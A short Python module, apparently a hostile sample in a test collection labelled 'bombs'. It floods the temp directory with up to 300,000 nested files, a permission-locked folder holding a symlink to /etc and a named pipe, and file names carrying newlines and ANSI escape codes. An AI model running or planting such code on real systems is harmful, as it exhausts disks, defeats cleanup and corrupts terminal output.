"""Make files, folders and links without an end, deep and wide, and hard to delete."""

import os
import tempfile

CLASS = "bombs"
MOST = 300_000


def attack(name, /, *args, **kwargs):
    os.chdir(tempfile.gettempdir())
    os.makedirs("locked/inside")
    os.symlink("/etc", "locked/inside/link")
    os.mkfifo("locked/fifo")
    os.chmod("locked", 0)
    for number in range(MOST):
        if number % 1000 == 0:
            os.mkdir(f"d{number}")
            os.chdir(f"d{number}")
        os.close(os.open(f"f{number}-\n\x1b[31m", os.O_CREAT))
    raise RuntimeError(f"BOAST: {MOST} files were made")
